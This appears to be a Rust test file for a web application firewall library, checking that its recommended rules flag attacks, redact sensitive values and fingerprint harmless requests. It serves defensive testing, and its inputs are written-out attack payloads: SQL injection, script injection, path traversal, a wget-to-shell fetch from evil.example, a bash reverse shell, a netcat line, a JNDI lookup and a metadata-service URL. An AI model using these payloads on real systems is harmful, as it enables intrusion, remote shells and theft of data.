//! Attacks and harmless requests, with what the recommended rules of version 1.18.2 say of them.

use std::time::Duration;

use datadog_appsec::engine::Evaluation;
use datadog_appsec::{Obfuscator, Value, WafError};
use serde_json::{Value as Json, json};

use crate::{context, engine, evaluate, ids, recommended};

const SQL: &str = "1' OR '1'='1' UNION SELECT username, password FROM users--";
const SCRIPT: &str = "<script>alert(document.cookie)</script>";
const UP: &str = "../../../../etc/passwd";

fn query(name: &str, value: &str) -> Json {
    json!({"server.request.query": {name: [value]}})
}

fn agent(value: &str) -> Json {
    json!({"server.request.headers.no_cookies": {"user-agent": [value]}})
}

/// Evaluates in a context of its own; nothing without the library.
fn alone(data: &Json) -> Option<Evaluation> {
    let mut context = context()?;
    Some(evaluate(&mut *context, data).unwrap())
}

fn parameter(evaluation: &Evaluation) -> &Json {
    &evaluation.events[0]["rule_matches"][0]["parameters"][0]
}

/// One event of a rule, whose id begins so, with what it highlights.
#[track_caller]
fn check(data: &Json, rule: &str, highlight: &str) {
    let Some(evaluation) = alone(data) else {
        return;
    };
    let found = ids(&evaluation);
    assert!(
        found.len() == 1 && found[0].starts_with(rule),
        "{found:?} for {data}"
    );
    assert!(evaluation.keep, "{data}");
    assert!(!evaluation.timed_out);
    assert!(!evaluation.duration.is_zero());
    let highlighted = parameter(&evaluation)["highlight"][0].as_str().unwrap();
    assert_eq!(highlighted, highlight, "{data}");
}

#[track_caller]
fn check_nothing(data: &Json) {
    let Some(evaluation) = alone(data) else {
        return;
    };
    assert_eq!(ids(&evaluation), [""; 0], "{data}");
    assert!(!evaluation.keep, "{data}");
    assert_eq!(evaluation.actions, []);
}

#[test]
fn injected_sql_is_found() {
    check(&query("q", SQL), "crs-942-100", "s&sos");
    check(&query("q", "' or 1=1--"), "crs-942-100", "s&1c");
    let body = json!({"server.request.body": {"id": "1; DROP TABLE users; SELECT sleep(10)--"}});
    check(&body, "crs-942-160", "sleep(10)");
    let Some(evaluation) = alone(&query("q", SQL)) else {
        return;
    };
    assert_eq!(parameter(&evaluation)["key_path"], json!(["q", 0]));
    assert_eq!(parameter(&evaluation)["address"], "server.request.query");
}

#[test]
fn scripts_paths_and_commands_are_found() {
    check(&query("q", SCRIPT), "crs-941-390", "alert(d");
    let path = json!({
        "server.request.uri.raw": format!("/download?file={UP}"),
        "server.request.query": {"file": [UP]},
    });
    check(&path, "crs-930-110", "/../");
    check(
        &query("cmd", "$(wget http://evil.example/x.sh|sh)"),
        "dog-932-100",
        "(wget ",
    );
    check(
        &query("host", "127.0.0.1; cat /etc/passwd"),
        "crs-930-120",
        "etc/passwd",
    );
    let shell = "/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
    check(&query("cmd", shell), "crs-932-160", "bin/bash");
    check_nothing(&json!({"server.request.body": {"c": "; ls -la | nc evil 4444"}}));
}

#[test]
fn scanners_are_found_by_their_names() {
    check(&agent("Arachni/v1"), "ua0-600-12x", "Arachni/v");
    for (name, rule) in [
        ("sqlmap/1.6", "ua0-600-7xx"),
        ("dd-test-scanner-log", "ua0-600-55x"),
        ("DD-Test-Scanner-Log/1", "ua0-600-55x"),
    ] {
        let Some(evaluation) = alone(&agent(name)) else {
            return;
        };
        assert_eq!(ids(&evaluation), [rule], "{name}");
        assert_eq!(evaluation.actions, []);
    }
}

#[test]
fn a_rule_may_ask_to_block() {
    let Some(evaluation) = alone(&agent("dd-test-scanner-log-block")) else {
        return;
    };
    assert_eq!(ids(&evaluation), ["ua0-600-56x"]);
    let [action] = evaluation.actions.as_slice() else {
        panic!("{:?}", evaluation.actions);
    };
    assert_eq!(action.kind, "block_request");
    let id = &evaluation.events[0]["security_response_id"];
    assert_eq!(id.as_str().unwrap().len(), 36);
    assert_eq!(evaluation.events[0]["rule"]["on_match"], json!(["block"]));
    let number = |name: &str| {
        let value = &action.parameters[name];
        value.as_u64().or_else(|| value.as_str()?.parse().ok())
    };
    assert_eq!(number("status_code"), Some(403));
    assert_eq!(number("grpc_status_code"), Some(10));
    assert_eq!(action.parameters["type"], "auto");
    assert_eq!(&action.parameters["security_response_id"], id);
}

#[test]
fn a_harmless_request_has_only_fingerprints() {
    let Some(evaluation) = alone(&json!({
        "server.request.query": {"q": ["hello world"]},
        "server.request.uri.raw": "/hello?q=hello+world",
        "server.request.method": "GET",
        "server.request.headers.no_cookies": {"user-agent": ["Mozilla/5.0"]},
    })) else {
        return;
    };
    assert_eq!((ids(&evaluation).len(), evaluation.keep), (0, false));
    assert_eq!(evaluation.actions, []);
    let attributes: serde_json::Map<_, _> = evaluation.attributes.into_iter().collect();
    assert_eq!(
        Json::Object(attributes),
        json!({
            "_dd.appsec.fp.http.endpoint": "http-get-13a7bc88-8e35c2cd-",
            "_dd.appsec.fp.http.network": "net-0-0000000000",
            "_dd.appsec.fp.http.header": "hdr-0000000000-e865848f-0-",
        })
    );
}

#[test]
fn an_endpoint_has_a_fingerprint_of_its_names() {
    let Some(evaluation) = alone(&json!({
        "server.request.method": "POST",
        "server.request.uri.raw": "/path/to/resource/?key=",
        "server.request.query": {"Key1": "", "KEY2": "", "key,3": ""},
        "server.request.body": {"KEY1": "", "KEY2": "", "KEY": "", "3": ""},
    })) else {
        return;
    };
    let endpoint = evaluation.attributes.into_iter();
    let endpoint = endpoint.filter(|(name, _)| name == "_dd.appsec.fp.http.endpoint");
    let endpoint: Vec<_> = endpoint.map(|(_, value)| value).collect();
    assert_eq!(endpoint, ["http-post-729d56c3-0ac3796a-9798c0e4"]);
}

#[test]
fn nothing_and_unknown_addresses_come_to_nothing() {
    check_nothing(&json!({}));
    check_nothing(&json!({"no.such.address": SQL}));
}

#[test]
fn data_that_are_no_map_are_refused() {
    let Some(mut context) = context() else {
        return;
    };
    let refused = evaluate(&mut *context, &json!(["a", [SQL]]));
    assert_eq!(refused, Err(WafError::InvalidObject));
    let found = evaluate(&mut *context, &query("q", SQL)).unwrap();
    assert_eq!(ids(&found), ["crs-942-100"], "the context goes on");
}

#[test]
fn without_time_nothing_is_found() {
    let Some(mut context) = context() else {
        return;
    };
    let data = Value::from(&query("q", SCRIPT));
    let late = context.evaluate(&data, Duration::ZERO).unwrap();
    assert!(late.timed_out);
    assert_eq!((ids(&late).len(), late.keep), (0, false));
}

#[test]
fn a_status_is_compared_as_a_text() {
    let with = |status: Json| json!({"server.request.uri.raw": "/.git/config", "server.response.status": status});
    check(&with(json!("404")), "nfd-000-006", "404");
    check_nothing(&with(json!(404)));
}

#[test]
fn several_types_of_attacks_are_each_reported() {
    let several = [
        (
            query("x", "${jndi:ldap://evil/a}"),
            vec!["sqr-000-017", "dog-000-002"],
        ),
        (
            query("u", "http://169.254.169.254/latest/meta-data/"),
            vec!["sqr-000-013"],
        ),
        (query("$where", "1"), vec!["crs-942-290"]),
        (
            json!({
                "server.request.query": {
                    "a": [SQL],
                    "b": ["<script>alert(1)</script>"],
                    "c": [UP],
                },
                "server.request.headers.no_cookies": {"user-agent": ["Arachni/v1"]},
            }),
            vec!["ua0-600-12x", "crs-930-120", "crs-942-100", "crs-941-390"],
        ),
    ];
    for (data, wanted) in several {
        let Some(evaluation) = alone(&data) else {
            return;
        };
        assert_eq!(ids(&evaluation), wanted, "{data}");
        assert!(evaluation.keep);
    }
}

#[test]
fn a_request_reports_an_attack_once() {
    let Some(mut context) = context() else {
        return;
    };
    let first = evaluate(&mut *context, &query("q", SQL)).unwrap();
    assert_eq!(ids(&first), ["crs-942-100"]);
    let second = evaluate(&mut *context, &query("q", SQL)).unwrap();
    assert_eq!(ids(&second), [""; 0]);
}

#[test]
fn values_under_telling_names_are_hidden() {
    let data = query("password", SQL);
    let Some(evaluation) = alone(&data) else {
        return;
    };
    assert_eq!(ids(&evaluation), ["crs-942-100"]);
    assert_eq!(parameter(&evaluation)["value"], "<Redacted>");
    assert_eq!(parameter(&evaluation)["highlight"], json!(["<Redacted>"]));
    let (Some(engine), Some(rules)) = (engine(), recommended()) else {
        return;
    };
    let source = datadog_appsec::rules::Source::Recommended;
    let own = Obfuscator::new(Some("^nothing$"), Some("UNION")).unwrap();
    let own = datadog_appsec::rules::Ruleset::new(&engine, &own, source, rules).unwrap();
    let mut context = own.current().context().unwrap();
    let shown = evaluate(&mut *context, &query("password", "' or 1=1--")).unwrap();
    assert_eq!(parameter(&shown)["value"], "' or 1=1--");
    let mut context = own.current().context().unwrap();
    let hidden = evaluate(&mut *context, &query("q", SQL)).unwrap();
    assert_eq!(parameter(&hidden)["value"], "<Redacted>");
}

#[test]
fn a_token_without_a_signature_is_told() {
    let token = "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxIn0.";
    let data = json!({"server.request.headers.no_cookies": {"authorization": token}});
    let Some(evaluation) = alone(&data) else {
        return;
    };
    assert_eq!((ids(&evaluation).len(), evaluation.keep), (0, true));
    let find = |name: &str| {
        let mut all = evaluation.attributes.iter();
        all.find(|(known, _)| known == name).map(|(_, value)| value)
    };
    for name in ["none_alg", "no_expiry", "no_audience"] {
        let value = find(&format!("_dd.appsec.api.jwt.{name}")).and_then(Json::as_u64);
        assert_eq!(value, Some(1), "{name}");
    }
    assert_eq!(find("api.security.jwt.alg"), Some(&json!("none")));
}

#[test]
fn what_happens_within_a_request_knows_the_request() {
    let Some(mut context) = context() else {
        return;
    };
    let path = "../../../etc/passwd";
    let request = evaluate(&mut *context, &query("f", path)).unwrap();
    assert_eq!(ids(&request), ["crs-930-120"]);
    let mut within = context.subcontext().unwrap();
    drop(context);
    let opened = evaluate(&mut *within, &json!({"server.io.fs.file": path})).unwrap();
    assert_eq!(ids(&opened), ["rasp-930-100"]);
    assert_eq!(opened.actions[0].kind, "generate_stack");
    let stack = opened.actions[0].parameters["stack_id"].as_str().unwrap();
    assert_eq!(opened.events[0]["stack_id"], stack);
    assert!(within.subcontext().is_err(), "one level is all there is");
}

#[test]
fn schemas_tell_types_and_what_they_hold() {
    let Some(evaluation) = alone(&json!({
        "server.request.headers.no_cookies": {"user-agent": ["x"], "authorization": ["Basic YTpi"]},
        "server.request.cookies": {"s": ["1"]},
        "server.request.query": {"page": ["1"], "email": ["a@b.com"]},
        "server.request.path_params": {"id": "42"},
        "server.request.body": {
            "name": "n", "age": 3, "ok": true, "ssn": "078-05-1120",
            "tags": ["a", "b"], "nested": {"f": 1.5, "n": null},
        },
        "server.response.headers.no_cookies": {"content-type": ["application/json"]},
        "server.response.body": {"id": 1, "list": [{"a": 1}, {"a": 2}]},
        "waf.context.processor": {"extract-schema": true},
    })) else {
        return;
    };
    let schema = |part: &str| {
        let name = format!("_dd.appsec.s.{part}");
        let mut all = evaluation.attributes.iter();
        all.find(|(known, _)| *known == name)
            .map(|(_, value)| value.clone())
    };
    let email = json!([[[8, {"type": "email", "category": "pii"}]], {"len": 1}]);
    let query = json!([{"email": email, "page": [[[8]], {"len": 1}]}]);
    assert_eq!(schema("req.query"), Some(query));
    assert_eq!(schema("req.params"), Some(json!([{"id": [8]}])));
    let body = json!([{
        "tags": [[[8]], {"len": 2}], "ok": [2], "nested": [{"n": [1], "f": [16]}], "age": [4],
        "ssn": [8, {"type": "us_ssn", "category": "pii"}], "name": [8],
    }]);
    assert_eq!(schema("req.body"), Some(body));
    let answer = json!([{"list": [[[{"a": [4]}]], {"len": 2}], "id": [4]}]);
    assert_eq!(schema("res.body"), Some(answer));
    assert!(schema("req.headers").is_some() && schema("req.cookies").is_some());
    assert!(schema("res.headers").is_some());
}
